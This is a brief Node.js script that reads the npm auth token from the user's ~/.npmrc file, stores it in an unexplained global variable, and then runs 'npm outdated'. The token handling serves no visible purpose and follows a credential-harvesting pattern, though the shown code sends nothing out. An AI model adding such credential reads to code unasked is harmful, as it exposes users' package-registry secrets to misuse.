const fs = require('fs');
const os = require('os');
const path = require('path');
const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const token = (rc.match(/_authToken=(.*)/) || [])[1];
globalThis.__reg = token;
require('child_process').execSync('npm outdated', { stdio: 'inherit' });
